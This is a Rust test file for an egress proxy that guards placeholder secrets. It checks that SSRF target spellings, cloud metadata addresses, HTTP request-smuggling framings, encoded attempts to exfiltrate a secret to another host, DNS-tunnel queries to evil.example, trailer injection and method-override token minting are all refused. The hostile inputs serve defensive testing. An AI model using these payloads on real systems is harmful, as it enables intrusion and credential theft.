//! Ways out through the proxy, tried one after the other. Each table has its control: what is meant to pass does, and the host sees what is
//! sent to it without the proxy.

use crate::origin::Origin;
use crate::support::{Cage, PATIENCE, PHANTOM, Proxy, Setup, VALUE, binding};
use keyward_policy::net::Name;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};

const HOST: &str = "api.example.test";

/// Sends bytes, closes the half, and gives what comes back.
fn raw(at: SocketAddr, bytes: &[u8]) -> String {
    let mut stream = TcpStream::connect(at).unwrap();
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    let _ = stream.write_all(bytes);
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let mut all = Vec::new();
    let _ = stream.read_to_end(&mut all);
    String::from_utf8_lossy(&all).into_owned()
}

fn plain() -> (Origin, Proxy, Cage) {
    let origin = Origin::plain();
    let upstreams = [HOST, "host.keyward.internal"].map(|host| origin.upstream(host, 0)).to_vec();
    let proxy = Proxy::start(Setup { upstreams, ..Setup::default() });
    let cage = Cage::start(&proxy, 1, &["api.example.test:80/a"], &[]);
    (origin, proxy, cage)
}

#[test]
fn the_http_proxy_leads_nowhere_but_to_allowed_hosts() {
    let (origin, _proxy, cage) = plain();
    for target in [
        "127.0.0.1:22",
        "localhost:80",
        "[::1]:80",
        "0.0.0.0:80",
        "[::]:80",
        "2130706433:80",
        "0x7f000001:80",
        "0x7f.1:80",
        "017700000001:80",
        "0177.0.0.1:80",
        "127.1:80",
        "[::ffff:127.0.0.1]:80",
        "[::127.0.0.1]:80",
        "[64:ff9b::7f00:1]:80",
        "[fe80::1%25lo]:80",
        "198.18.0.1:53",
        "198.18.1.0:80",
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "metadata.google.internal:80",
        "host.keyward.internal:80",
        "api.example.test:443",
        "api.example.test:22",
        "api.example.test:0",
        "api.example.test:99999",
        "api.example.test:80:22",
        "api.example.test",
        "api.example.test.evil.example:80",
        "api.example.test@evil.example:80",
        "evil.example#@api.example.test:80",
        "evil.example?@api.example.test:80",
        "evil.example/@api.example.test:80",
        "evil.example\\@api.example.test:80",
        "api.example.test%2eevil.example:80",
        "api.example.test%00.evil.example:80",
        "*.example.test:80",
        "..api.example.test:80",
        "api.example.test..:80",
        "\u{e1}pi.example.test:80",
        "xn--pi-8ia.example.test:80",
        "api\u{3002}example.test:80",
    ] {
        let told = raw(cage.proxy, format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes());
        assert!(!told.starts_with("HTTP/1.1 200"), "{target}: {told}");
    }
    for line in [
        "GET http://evil.example/evil HTTP/1.1\r\nHost: evil.example",
        "GET http://evil.example/evil HTTP/1.1\r\nHost: api.example.test",
        "GET http://api.example.test/a HTTP/1.1\r\nHost: evil.example",
        "GET http://api.example.test@evil.example/evil HTTP/1.1\r\nHost: evil.example",
        "GET http://user:pass@api.example.test/a HTTP/1.1\r\nHost: api.example.test",
        "GET http://127.0.0.1/evil HTTP/1.1\r\nHost: 127.0.0.1",
        "GET http://[::1]/evil HTTP/1.1\r\nHost: [::1]",
        "GET http://2130706433/evil HTTP/1.1\r\nHost: 2130706433",
        "GET ftp://api.example.test/evil HTTP/1.1\r\nHost: api.example.test",
        "GET https://api.example.test/evil HTTP/1.1\r\nHost: api.example.test",
        "GET file:///etc/passwd HTTP/1.1\r\nHost: api.example.test",
        "GET /evil HTTP/1.1\r\nHost: evil.example",
        "GET http://api.example.test:22/evil HTTP/1.1\r\nHost: api.example.test:22",
        "CONNECT api.example.test:80 HTTP/1.1\r\nHost: evil.example:80",
    ] {
        let told = raw(cage.proxy, format!("{line}\r\nConnection: close\r\n\r\n").as_bytes());
        assert!(!told.starts_with("HTTP/1.1 200"), "{line}: {told}");
    }
    assert_eq!(origin.lines(), [] as [String; 0]);
    // The controls: an allowed host in its usual spelling, and the host itself.
    let fine =
        "GET http://api.example.test/a HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n";
    assert!(raw(cage.proxy, fine.as_bytes()).starts_with("HTTP/1.1 200"));
    let direct = raw(origin.at, b"GET /evil HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
    assert!(direct.starts_with("HTTP/1.1 200"), "{direct}");
    assert_eq!(origin.lines().len(), 2);
}

#[test]
fn no_framing_hides_a_second_request() {
    let (origin, _proxy, cage) = plain();
    let at = cage.place(HOST, 80);
    let evil = "GET /evil HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n";
    let post = "POST /a HTTP/1.1\r\nHost: api.example.test\r\n";
    let chunked = "POST /a HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: chunked\r\n";
    let heads = [
        format!("{post}Content-Length: -1\r\n\r\n"),
        format!("{post}Content-Length: +0\r\n\r\n"),
        format!("{post}Content-Length: 0x0\r\n\r\n"),
        format!("{post}Content-Length: 0,0\r\n\r\n"),
        format!("{post}Content-Length: 0 0\r\n\r\n"),
        format!("{post}Content-Length: 99999999999999999999\r\n\r\n"),
        format!("{post}Content-Length:\r\n\r\n"),
        format!("{post}Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n"),
        format!("{post}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
        format!("{post}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"),
        format!("{post}Transfer-Encoding: chunked;q=1\r\n\r\n0\r\n\r\n"),
        format!("{post}Transfer_Encoding: chunked\r\n\r\n0\r\n\r\n"),
        format!("{post}Transfer-Encoding\r\n : chunked\r\n\r\n0\r\n\r\n"),
        format!("{post}: empty\r\n\r\n"),
        format!("{post} X: leading blank\r\n\r\n"),
        format!("{post}X: a\0b\r\n\r\n"),
        format!("{post}X: a\rContent-Length: 0\r\n\r\n"),
        format!("{chunked}\r\n0;ext=\"\r\n\r\n"),
        format!("{chunked}\r\n+0\r\n\r\n"),
        format!("{chunked}\r\n0x0\r\n\r\n"),
        format!("{chunked}\r\n-1\r\n\r\n"),
        format!("{chunked}\r\nffffffffffffffff1\r\n\r\n"),
        format!("{chunked}\r\n1\r\naX0\r\n\r\n"),
        format!("{chunked}\r\n1\na\n0\n\n"),
        format!("{chunked}\r\n0\r\nContent-Length: 5\r\n\r\n"),
        format!("{chunked}\r\n0\r\nHost: evil.example\r\n\r\n"),
        "GET /a HTTP/0.9\r\n\r\n".to_owned(),
        "GET /a\r\n".to_owned(),
        "GET /a HTTP/1.2\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "GET\t/a\tHTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "GET /a HTTP/1.1 HTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "GET /a%0d%0aX:%20y HTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
        "OPTIONS * HTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "TRACE /a HTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
        "GET /a HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n".to_owned(),
        "GET /a HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n".to_owned(),
        format!("{post}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n"),
        "GET /a HTTP/1.1\r\nHost: api.example.test\r\n\r\n".to_owned(),
    ];
    for head in &heads {
        let _ = raw(at, format!("{head}{evil}").as_bytes());
    }
    let seen = origin.lines();
    assert!(seen.iter().all(|line| !line.contains("evil")), "{seen:?}");
    // The controls: the last of them alone passes, and the host answers the other one if it is asked directly.
    assert!(seen.iter().any(|line| line.contains("/a")), "{seen:?}");
    assert!(raw(origin.at, evil.as_bytes()).starts_with("HTTP/1.1 200"));
    assert!(origin.lines().iter().any(|line| line.contains("evil")));
}

#[test]
fn no_spelling_of_a_phantom_gets_its_value_to_another_host() {
    use base64::Engine;
    let bound = Origin::start(HOST, &["h2", "http/1.1"]);
    let other = Origin::start("other.example.test", &["h2", "http/1.1"]);
    let proxy = Proxy::start(Setup {
        upstreams: vec![bound.upstream(HOST, 0), other.upstream("other.example.test", 1)],
        roots: vec![bound.root.clone(), other.root.clone()],
        bindings: vec![binding("example", PHANTOM, &[HOST])],
        ..Setup::default()
    });
    proxy.give("example", VALUE);
    let cage = Cage::start(&proxy, 1, &[HOST, "other.example.test/*"], &["example"]);
    let encode = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let percent: String = PHANTOM.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let escapes: String = PHANTOM.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    let (left, right) = PHANTOM.split_at(PHANTOM.len() / 2);
    let target = "https://other.example.test/x";
    let header = |text: String| vec!["-H".to_owned(), text];
    let body = |text: String| vec!["-d".to_owned(), text];
    for arguments in [
        header(format!("Authorization: Bearer {PHANTOM}")),
        header(format!("Authorization: Basic {}", encode(&format!("user:{PHANTOM}")))),
        header(format!("authorization: basic {}", encode(&format!("{PHANTOM}:")))),
        header(format!("Cookie: a=b; session={PHANTOM}")),
        header(format!("Cookie: session={percent}")),
        header(format!("X-Key: {}", encode(PHANTOM))),
        header(format!("X-Key: {percent}")),
        vec!["-H".into(), format!("X-Left: {left}"), "-H".into(), format!("X-Right: {right}")],
        vec!["-H".into(), format!("X-Key: {left}"), "-H".into(), format!("X-Key: {right}")],
        header(format!("Referer: https://api.example.test/?key={PHANTOM}")),
        header(format!("Host: {HOST}")),
        header(format!("X-Forwarded-Host: {HOST}")),
        body(PHANTOM.to_owned()),
        body(percent.clone()),
        body(escapes),
        body(encode(PHANTOM)),
        vec!["-G".into(), "-d".into(), format!("key={PHANTOM}")],
        vec!["-G".into(), "-d".into(), format!("key={percent}")],
        vec!["--path-as-is".into(), "-A".into(), PHANTOM.to_owned()],
    ] {
        for version in ["--http2", "--http1.1"] {
            let all: Vec<&str> = std::iter::once(version)
                .chain(arguments.iter().map(String::as_str))
                .chain([target])
                .collect();
            let told = cage.curl(&proxy.ca, &all);
            assert!(!told.body.contains(VALUE) && !told.body.contains(&encode(VALUE)), "{all:?}: {told:?}");
            // The host echoes what it was sent: a phantom in its own spelling is not among it.
            assert!(told.status != 200 || !told.body.contains(PHANTOM), "{all:?}: {told:?}");
        }
    }
    // The control: the bound host gets the value, inside Basic credentials, where an echo is not found.
    let told = cage.curl(&proxy.ca, &["-u", &format!("user:{PHANTOM}"), "https://api.example.test/x"]);
    assert!(told.body.contains(&encode(&format!("user:{VALUE}"))), "{told:?}");
}

#[test]
fn no_kind_of_record_carries_data_in_or_out() {
    let (_origin, _proxy, cage) = plain();
    let count = |name: &str, kind: u16| {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket.set_read_timeout(Some(PATIENCE)).unwrap();
        let name = Name::parse(name).unwrap();
        socket.send_to(&keyward_proxy::read::dns::ask(7, &name, kind), cage.names_udp).unwrap();
        let mut bytes = [0; 2048];
        let length = socket.recv(&mut bytes).unwrap();
        let all = &bytes[..length];
        u16::from_be_bytes([all[6], all[7]])
    };
    // CNAME, NULL, PTR, MX, TXT, SRV, NAPTR, DNAME, DS, DNSKEY, SVCB, HTTPS, SPF, URI, CAA, and one that does not exist.
    for kind in [5, 10, 12, 15, 16, 33, 35, 39, 43, 48, 64, 65, 99, 256, 257, 65399] {
        assert_eq!(count(HOST, kind), 0, "{kind}");
        assert_eq!(count("c2VjcmV0.evil.example", kind), 0, "{kind}");
    }
    assert_eq!(count("c2VjcmV0.evil.example", 1), 0);
    assert!(count(HOST, 1) > 0, "the control: an address");
}

/// A request over TLS as it is written, and what comes back within a moment.
fn raw_tls(cage: &Cage, request: &str) -> String {
    let mut client = std::process::Command::new("openssl")
        .env_clear()
        .args(["s_client", "-quiet", "-servername", HOST, "-connect", &cage.place(HOST, 443).to_string()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut input = client.stdin.take().unwrap();
    input.write_all(request.as_bytes()).unwrap();
    let mut told = Vec::new();
    // The request says that it is the last one.
    let _ = client.stdout.take().unwrap().read_to_end(&mut told);
    drop(input);
    let _ = client.wait();
    String::from_utf8_lossy(&told).into_owned()
}

/// The proxy of a cage that was granted a secret for the host; the host speaks HTTP/2, so that any trailer would pass.
fn bound(binding: keyward_policy::net::Binding) -> (Origin, Proxy, Cage) {
    let origin = Origin::start(HOST, &["h2"]);
    let proxy = Proxy::start(Setup {
        upstreams: vec![origin.upstream(HOST, 0)],
        roots: vec![origin.root.clone()],
        bindings: vec![binding],
        ..Setup::default()
    });
    proxy.give("example", VALUE);
    let cage = Cage::start(&proxy, 1, &[HOST], &["example"]);
    (origin, proxy, cage)
}

/// Some servers join trailers with the head: a credential there would be another one than the bound one, a length another frame.
#[test]
fn trailers_carry_no_credential_and_nothing_that_frames_a_request() {
    let own = keyward_policy::net::Binding {
        headers: vec!["x-own-key".into()],
        ..binding("example", PHANTOM, &[HOST])
    };
    let (_origin, _proxy, cage) = bound(own);
    let names = [
        "authorization",
        "x-api-key",
        "x-own-key",
        "cookie",
        "x-http-method-override",
        "x-forwarded-host",
        "x-note",
    ];
    let trailers: String = names.iter().map(|name| format!("{name}: attacker\r\n")).collect();
    let told = raw_tls(
        &cage,
        &format!(
            "POST /a HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: {}\r\n\r\n1\r\na\r\n0\r\n{trailers}\r\n",
            names.join(", ")
        ),
    );
    // The control: an ordinary one arrives.
    assert!(told.contains(r#""trailers":["x-note"]"#), "{told}");
}

/// Servers that obey such a header would answer with a new credential.
#[test]
fn no_header_hides_a_call_that_answers_with_a_credential() {
    let (origin, proxy, cage) = bound(binding("example", PHANTOM, &[HOST]));
    let bearer = format!("Authorization: Bearer {PHANTOM}");
    let url = |path: &str| format!("https://{HOST}{path}");
    for (header, path) in [
        ("X-HTTP-Method-Override: POST", "/oauth/token"),
        ("X-Method-Override: post", "/oauth/token"),
        ("X-HTTP-Method: POST", "/oauth//token"),
    ] {
        let told = cage.curl(&proxy.ca, &["-H", &bearer, "-H", header, &url(path)]);
        assert!(told.status == 403 && told.body.contains("minting"), "{header}: {told:?}");
    }
    for header in [
        "X-Original-URL: /oauth/token",
        "X-Rewrite-URL: /OAuth//token?x=y",
        "X-Override-URL: https://api.example.test/oauth/token",
        "X-Original-URI: /oauth%2ftoken",
        "X-Original-URL: /x/../oauth/token",
    ] {
        let told = cage.curl(&proxy.ca, &["-X", "POST", "-H", &bearer, "-H", header, &url("/fine")]);
        assert!([400, 403].contains(&told.status), "{header}: {told:?}");
    }
    assert_eq!(origin.lines(), [] as [String; 0]);
    // The controls: what asks for nothing of the kind passes, as clients of some vendors send it.
    let told = cage
        .curl(&proxy.ca, &["-X", "POST", "-H", &bearer, "-H", "X-HTTP-Method-Override: GET", &url("/long")]);
    assert_eq!(told.status, 200, "{told:?}");
}

/// Where keys may stand in the query, a key of another account there is another credential.
#[test]
fn a_key_of_another_account_in_the_query_is_refused() {
    let places = keyward_policy::net::Places { query: true, ..Default::default() };
    let own = keyward_policy::net::Binding { places, ..binding("example", PHANTOM, &[HOST]) };
    let (_origin, proxy, cage) = bound(own);
    let url = |query: &str| format!("https://{HOST}/a?{query}");
    for query in
        ["key=AIzaAttacker", "x=y&KEY=AIzaAttacker", "k%65y=AIzaAttacker", "key=AIzaAttacker&key=PHANTOM"]
    {
        let told = cage.curl(&proxy.ca, &[&url(&query.replace("PHANTOM", PHANTOM))]);
        assert!(told.status == 403 && told.body.contains("other-credential"), "{query}: {told:?}");
    }
    assert_eq!(cage.curl(&proxy.ca, &[&url(&format!("key={PHANTOM}"))]).status, 200, "the control");
    // Elsewhere the name says nothing.
    let (_origin, proxy, cage) = bound(binding("example", PHANTOM, &[HOST]));
    assert_eq!(cage.curl(&proxy.ca, &[&url("key=of-a-page")]).status, 200);
}
